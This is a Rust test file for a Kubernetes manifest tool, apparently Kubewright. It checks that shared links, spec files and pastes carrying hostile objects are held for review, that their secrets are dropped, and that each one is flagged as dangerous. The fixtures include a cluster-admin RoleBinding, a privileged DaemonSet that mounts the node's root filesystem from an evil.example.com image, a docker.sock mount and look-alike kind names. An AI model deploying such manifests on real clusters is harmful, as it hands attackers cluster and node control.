//! Someone else's words: a share link, a spec file or a paste carrying objects the form does not
//! model. Nothing of it is applied unseen, nothing secret in it is stored, and every dangerous
//! thing in it is named.

use std::io::Write;

use base64::Engine;
use kubewright::export;
use kubewright::import::{self, SplitRule, Status};
use kubewright::kept::{self, Origin};
use kubewright::share;
use kubewright::validate::{self, Verdict};
use kubewright::AppSpec;

use crate::util::kubewright;

/// The planted value the sender knows.
const PLANTED: &str = "sender-knows-this-1234";

/// The case as it was found: a ClusterRoleBinding making the app's default ServiceAccount
/// cluster-admin, a Secret whose stringData the sender knows, and a privileged DaemonSet mounting
/// the node's `/`, all marked as already included.
fn hostile_spec_json() -> String {
    let mut spec: serde_json::Value =
        serde_json::from_str(&kubewright::spec_to_json(&phoenix())).unwrap();
    spec["extra"] = serde_json::json!([
        {"include": true, "object": {
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
            "metadata": {"name": "kube-native-admin"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-native"}]}},
        {"include": true, "object": {
            "apiVersion": "v1", "kind": "Secret", "metadata": {"name": "kube-native-extra"},
            "stringData": {"ADMIN_TOKEN": PLANTED}}},
        {"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "node-helper"},
         "spec": {"selector": {"matchLabels": {"app": "node-helper"}}, "template": {
            "metadata": {"labels": {"app": "node-helper"}},
            "spec": {"hostPID": true, "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
              "containers": [{"name": "helper", "image": "evil.example.com/helper:1",
                "securityContext": {"privileged": true},
                "env": [{"name": "API_PASSWORD", "value": PLANTED}],
                "volumeMounts": [{"name": "host", "mountPath": "/host"}]}]}}}}
    ]);
    serde_json::to_string(&spec).unwrap()
}

fn phoenix() -> AppSpec {
    crate::util::article_with_typed_url()
}

fn link(json: &str) -> String {
    let mut encoder =
        flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(json.as_bytes()).unwrap();
    let payload =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(encoder.finish().unwrap());
    format!("#s={payload}")
}

/// Every text the user could take away: the YAML, each file, the commands, the zip's and the
/// chart's files.
fn everything_out(spec: &AppSpec) -> String {
    let rendered = kubewright::render(spec);
    let mut out = rendered.all.clone();
    for file in &rendered.files {
        out.push_str(&file.name);
        out.push_str(&file.yaml);
    }
    out.push_str(&rendered.commands_text());
    for file in export::kustomize::bundle(spec)
        .into_iter()
        .chain(export::helm::chart(spec))
    {
        out.push_str(&file.path);
        out.push_str(&file.contents);
    }
    out
}

#[test]
fn the_hostile_link_applies_nothing_until_included_and_stores_no_secret() {
    // GIVEN the hand-made link, opened
    let (spec, notes) = share::open(&link(&hostile_spec_json())).unwrap();
    // THEN the Secret is dropped, and the other two are held for review, not included
    let dropped: Vec<&str> = notes
        .iter()
        .filter(|n| n.status == Status::Dropped)
        .map(|n| n.path.as_str())
        .collect();
    assert_eq!(dropped, ["Secret/kube-native-extra"]);
    let held: Vec<String> = spec.extra.iter().map(|k| k.label()).collect();
    assert_eq!(
        held,
        [
            "ClusterRoleBinding/kube-native-admin",
            "DaemonSet/node-helper"
        ]
    );
    assert!(spec.extra.iter().all(|k| !k.include));
    // AND nothing of them is in the YAML, the files, the commands, the zip or the chart
    let out = everything_out(&spec);
    for word in [
        "kube-native-admin",
        "cluster-admin",
        "node-helper",
        "extra-",
        PLANTED,
    ] {
        assert!(!out.contains(word), "{word} in the output");
    }
    assert_eq!(
        everything_out(&spec),
        everything_out(&phoenix_without_secrets())
    );
    // AND what autosave or a new link would keep holds no planted value
    let stored = kubewright::spec_to_json(&spec.without_secret_values());
    assert!(!stored.contains(PLANTED), "{stored}");
    assert!(!share::encode(&spec).is_empty());
    // AND the verdict says it: 2 dangerous objects, each named with what it can do (and the
    // three secret values the link could not carry are required again)
    let issues = validate::validate(&spec);
    assert_eq!(
        Verdict::of(&issues).headline(),
        "not valid: 3 errors, 2 dangerous objects"
    );
    let dangers: Vec<(&str, &str)> = issues
        .iter()
        .filter(|i| i.path.starts_with("extra["))
        .map(|i| (i.rule, i.path.as_str()))
        .collect();
    assert_eq!(
        dangers,
        [
            ("cluster-admin-role-binding", "extra[0]"),
            ("privileged-container", "extra[1]"),
            ("host-pid", "extra[1]"),
            ("hostPathSet", "extra[1]"),
            ("kept-cluster-scoped", "extra[0]"),
            ("allowed-repos", "extra[1]"),
        ]
    );
    // AND the planted env value never entered (a link carries no secret value): the restored form
    // names it as missing, like the app's own secrets
    assert!(share::missing_secret_values(&spec)
        .contains(&"API_PASSWORD in DaemonSet/node-helper".to_string()));
    assert!(issues
        .iter()
        .any(|i| i.message.contains("gives cluster-admin")
            && i.message.contains("ServiceAccount kube-native/default")));
    assert!(issues
        .iter()
        .any(|i| i.message.contains("the node's whole filesystem")));
    // AND the page's review rows say where each goes and what it does
    let views = kept::views(&spec);
    assert_eq!(views[0].place, "the whole cluster");
    assert_eq!(views[1].does, "runs a container on every node");
}

fn phoenix_without_secrets() -> AppSpec {
    phoenix().without_secret_values()
}

#[test]
fn an_included_object_is_applied_in_its_own_labelled_step_after_the_app() {
    let (mut spec, _) = share::open(&link(&hostile_spec_json())).unwrap();
    spec.include_kept(0, true);
    let rendered = kubewright::render(&spec);
    assert!(rendered.all.contains("name: cluster-admin"));
    assert!(!rendered.all.contains("node-helper"));
    let commands = &rendered.commands;
    let step = commands
        .iter()
        .position(|c| {
            c.line
                .contains("extra-clusterrolebinding-kube-native-admin.yaml")
        })
        .unwrap();
    let rollout = commands
        .iter()
        .position(|c| c.line.contains("rollout status"))
        .unwrap();
    assert!(step > rollout, "after the app's own objects are up");
    assert!(
        commands[step]
            .comment
            .starts_with("Kept objects (1 of them): not written by Kubewright"),
        "{}",
        commands[step].comment
    );
    assert!(commands[step]
        .comment
        .contains("ClusterRoleBinding kube-native-admin"));
    // Leaving it out removes it from the form altogether.
    spec.leave_out_kept(0);
    assert_eq!(spec.extra.len(), 1);
}

#[test]
fn a_spec_file_and_a_paste_go_through_the_same_gate() {
    let spec = kubewright::spec_from_json(&hostile_spec_json()).unwrap();
    let (file, notes) = kept::admit(spec, Origin::SpecFile);
    assert!(file.extra.iter().all(|k| !k.include));
    assert_eq!(file.extra.len(), 2);
    assert!(notes
        .iter()
        .any(|n| n.status == Status::Held && n.path == "DaemonSet/node-helper"));
    // The same objects pasted as manifests: held, the Secret dropped.
    let mut included = file.clone();
    for kept in &mut included.extra {
        kept.include = true;
    }
    let text = format!(
        "{}---\napiVersion: v1\nkind: Secret\nmetadata: {{name: other}}\nstringData: {{X: {PLANTED}}}\n",
        kubewright::render(&included).all
    );
    let imported = import::import(&text, &SplitRule::default()).unwrap();
    let (pasted, _) = kept::admit(imported.spec, Origin::Import);
    let labels: Vec<String> = pasted.extra.iter().map(|k| k.label()).collect();
    assert_eq!(
        labels,
        [
            "ClusterRoleBinding/kube-native-admin",
            "DaemonSet/node-helper"
        ]
    );
    assert!(pasted.extra.iter().all(|k| !k.include));
    assert!(!kubewright::spec_to_json(&pasted.without_secret_values()).contains(PLANTED));
}

#[test]
fn hostile_shapes_are_refused_or_held_never_panic() {
    let cases = [
        // Look-alike kinds (Cyrillic е, Greek Ο), a lower-case Secret, nested Lists holding a
        // Secret, a list whose items are not a list, no kind at all.
        ("apiVersion: v1\nkind: S\u{435}cret\nmetadata: {name: a}\nstringData: {p: q}\n", 0),
        ("apiVersion: v1\nkind: C\u{39f}nfigMap\nmetadata: {name: a}\n", 0),
        ("apiVersion: v1\nkind: secret\nmetadata: {name: a}\n", 0),
        ("apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: List\n  items:\n  - apiVersion: v1\n    kind: SecretList\n    items:\n    - {metadata: {name: deep}, stringData: {p: q}}\n", 0),
        ("apiVersion: v1\nkind: List\nitems: {a: 1}\n", 0),
        ("metadata: {name: nokind}\n", 0),
        ("just text", 0),
        ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ok}\n", 1),
    ];
    for (yaml, expect) in cases {
        let mut spec = AppSpec::default();
        spec.extra
            .push(kept::Kept::held(serde_yaml::from_str(yaml).unwrap()));
        let (admitted, notes) = kept::admit(spec, Origin::Link);
        assert_eq!(admitted.extra.len(), expect, "{yaml}: {notes:?}");
        assert!(!kubewright::spec_to_json(&admitted).contains("stringData"));
    }
    // Huge: refused. Deep: refused (serde_json stops far deeper JSON at parse time).
    let huge = format!(
        r#"{{"extra": [{{"apiVersion": "v1", "kind": "ConfigMap", "data": {{"a": "{}"}}}}]}}"#,
        "x".repeat(kept::MAX_OBJECT_BYTES + 1)
    );
    let (admitted, notes) = kept::admit(kubewright::spec_from_json(&huge).unwrap(), Origin::Link);
    assert!(admitted.extra.is_empty(), "{notes:?}");
    let deep = format!(
        r#"{{"extra": [{{"apiVersion": "v1", "kind": "ConfigMap", "data": {}1{}}}]}}"#,
        "[".repeat(100),
        "]".repeat(100)
    );
    let (admitted, _) = kept::admit(kubewright::spec_from_json(&deep).unwrap(), Origin::Link);
    assert!(admitted.extra.is_empty());
    assert!(kubewright::spec_from_json(&format!(
        r#"{{"extra": [{}]}}"#,
        "[".repeat(10_000) + &"]".repeat(10_000)
    ))
    .is_err());
}

#[test]
fn every_dangerous_field_is_named_included_or_not() {
    // One object per danger, in the app's namespace unless the point is another one.
    let objects = [
        ("cluster-admin-role-binding", "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: a}\nroleRef: {kind: ClusterRole, name: cluster-admin}\n"),
        ("wildcard-in-rules", "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: a}\nrules: [{apiGroups: ['*'], resources: [pods], verbs: [get]}]\n"),
        ("privileged-container", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: a}\nspec: {template: {spec: {initContainers: [{name: i, image: kube-native:0.1.0, securityContext: {privileged: true}}], containers: []}}}\n"),
        ("host-network", "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec: {template: {spec: {hostNetwork: true, containers: [{name: c, image: kube-native:0.1.0}]}}}\n"),
        ("host-pid", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {hostPID: true, containers: [{name: c, image: kube-native:0.1.0}]}\n"),
        ("host-ipc", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {hostIPC: true, containers: [{name: c, image: kube-native:0.1.0}]}\n"),
        ("hostPathSet", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {volumes: [{name: s, hostPath: {path: /var/run/docker.sock}}], containers: [{name: c, image: kube-native:0.1.0}]}\n"),
        ("dangerousCapabilities", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: c, image: kube-native:0.1.0, securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}}}]}\n"),
        ("kept-cluster-scoped", "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a.example.com}\n"),
        ("kept-other-namespace", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: a, namespace: kube-system}\n"),
        ("kept-secret-value", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {tls.key: \"-----BEGIN PRIVATE KEY-----\\nMII\"}\n"),
        ("allowed-repos", "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {ephemeralContainers: [{name: e, image: quay.io/x/y}], containers: []}\n"),
    ];
    assert_eq!(
        objects.iter().map(|(id, _)| *id).collect::<Vec<_>>(),
        kept::RULE_IDS,
        "one case per rule, in order"
    );
    for include in [false, true] {
        for (rule, yaml) in objects {
            let mut spec = phoenix();
            spec.extra.push(kept::Kept {
                include,
                object: serde_yaml::from_str(yaml).unwrap(),
            });
            let issues = validate::validate(&spec);
            let fired: Vec<&str> = issues
                .iter()
                .filter(|i| i.path == "extra[0]")
                .map(|i| i.rule)
                .collect();
            assert_eq!(fired, [rule], "{yaml}");
            assert!(validate::rule(rule).is_some());
            assert_eq!(Verdict::of(&issues).dangerous, 1);
        }
    }
}

#[test]
fn the_command_line_holds_kept_objects_and_check_names_every_dangerous_one() {
    let path = std::env::temp_dir().join(format!("kubewright-hostile-{}.json", std::process::id()));
    std::fs::write(&path, hostile_spec_json()).unwrap();
    let file = path.to_str().unwrap();
    // check: every dangerous object named, with what it can do, and the verdict last
    let (code, stdout, _) = kubewright(&["check", "--spec", file]);
    assert_eq!(code, 0, "warnings only: {stdout}");
    assert!(stdout.contains("warning extra[0]: ClusterRoleBinding/kube-native-admin (held for review): gives cluster-admin"), "{stdout}");
    assert!(stdout.contains("warning extra[1]: DaemonSet/node-helper (held for review): spec.template.spec.containers[0]: container helper runs privileged"), "{stdout}");
    assert!(stdout.ends_with("valid, 2 dangerous objects\n"), "{stdout}");
    // render: held objects left out, said on stderr; --include-kept includes them
    let (code, stdout, stderr) = kubewright(&["render", "--spec", file]);
    assert_eq!(code, 0);
    assert!(!stdout.contains("node-helper") && !stdout.contains("cluster-admin"));
    assert!(
        stderr.contains("dropped: Secret/kube-native-extra"),
        "{stderr}"
    );
    assert!(
        stderr.contains("2 kept object(s) held for review"),
        "{stderr}"
    );
    let (_, stdout, stderr) = kubewright(&["commands", "--spec", file, "--include-kept"]);
    assert!(stdout.contains("# Kept objects (2 of them)"), "{stdout}");
    assert!(!stderr.contains("held for review and left out"), "{stderr}");
    std::fs::remove_file(&path).unwrap();
}
